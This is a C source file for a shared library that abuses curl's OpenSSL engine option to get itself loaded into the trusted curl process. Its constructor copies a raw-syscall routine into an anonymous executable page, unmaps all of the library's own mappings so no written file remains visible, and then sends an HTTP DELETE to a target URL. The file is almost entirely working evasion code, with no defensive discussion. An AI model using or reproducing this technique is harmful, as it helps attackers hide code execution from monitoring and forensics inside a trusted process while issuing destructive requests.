/* Loaded by `curl --engine /PATH/vanishing-engine.so ... http://A.B.C.D:PORT/PATH` (OpenSSL's
 * ENGINE_by_id dlopens an id that is a path): its constructor copies a routine that makes raw
 * syscalls only into an anonymous executable page, and that routine unmaps every mapping of this
 * library before it connects to the URL's host and sends a DELETE for its path, from the trusted
 * process. At the connect, no file in the process's maps was written in the run: only an
 * anonymous executable page shows what ran. Prints the status line's code (000 on a failure). */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include "url-target.h"

struct job {
    struct sockaddr_in addr;
    int nranges;
    unsigned long start[16], len[16];
    long reqlen;
    char req[1024];
    char resp[64];
};

#define BLOB __attribute__((section("vanishing_blob"), noinline, used))

static inline __attribute__((always_inline)) long sys(long n, long a, long b, long c)
{
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

/* Runs from the anonymous copy: no call, no global, no constant outside *j. */
BLOB static void vanish_and_send(struct job *j)
{
    for (int i = 0; i < j->nranges; i++)
        sys(SYS_munmap, (long)j->start[i], (long)j->len[i], 0);
    long s = sys(SYS_socket, AF_INET, SOCK_STREAM, 0);
    char *out = j->resp + 9; /* "HTTP/1.1 " */
    long ok = s >= 0 && sys(SYS_connect, s, (long)&j->addr, sizeof j->addr) == 0
        && sys(SYS_write, s, (long)j->req, j->reqlen) == j->reqlen && sys(SYS_read, s, (long)j->resp, 63) >= 12;
    if (!ok) { out = j->resp; out[0] = out[1] = out[2] = '0'; }
    sys(SYS_write, 1, (long)out, 3);
    sys(SYS_exit_group, ok ? 0 : 1, 0, 0);
}

extern char __start_vanishing_blob[], __stop_vanishing_blob[];

__attribute__((constructor)) static void take_over(void)
{
    static struct job j;
    char host[64] = "", path[512];
    url_target(&j.addr, host, path);
    j.reqlen = snprintf(j.req, sizeof j.req, "DELETE %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n", path, host);
    /* This library's mappings: those of the file that holds this function. */
    char self[4096] = "";
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[4608];
    unsigned long me = (unsigned long)&take_over;
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long a, b; char file[4096] = "";
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, file) >= 2 && a <= me && me < b) strcpy(self, file);
    }
    if (maps) rewind(maps);
    while (maps && fgets(line, sizeof line, maps) && j.nranges < 16) {
        unsigned long a, b; char file[4096] = "";
        if (sscanf(line, "%lx-%lx %*s %*s %*s %*s %4095s", &a, &b, file) == 3 && self[0] && strcmp(file, self) == 0) {
            j.start[j.nranges] = a; j.len[j.nranges++] = b - a;
        }
    }
    if (maps) fclose(maps);
    size_t size = (size_t)(__stop_vanishing_blob - __start_vanishing_blob);
    char *page = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page == MAP_FAILED || size > 4096 || j.nranges == 0) _exit(2);
    memcpy(page, __start_vanishing_blob, size);
    struct job *copy = (struct job *)(page + 4096);
    *copy = j;
    ((void (*)(struct job *))(page + ((char *)vanish_and_send - __start_vanishing_blob)))(copy);
}
